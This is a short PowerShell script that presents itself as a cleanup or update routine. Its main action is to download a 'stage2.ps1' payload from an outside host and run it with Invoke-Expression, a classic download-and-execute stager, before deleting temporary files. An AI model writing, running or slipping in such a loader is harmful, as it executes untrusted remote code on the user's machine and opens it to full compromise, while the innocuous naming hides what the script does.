$base = "https://updates.cleanup.invalid"
$page = Invoke-WebRequest -Uri ($base + "/stage2.ps1") -UseBasicParsing
$code = $page.Content
Invoke-Expression $code
Remove-Item "$env:TEMP\*.tmp" -ErrorAction SilentlyContinue
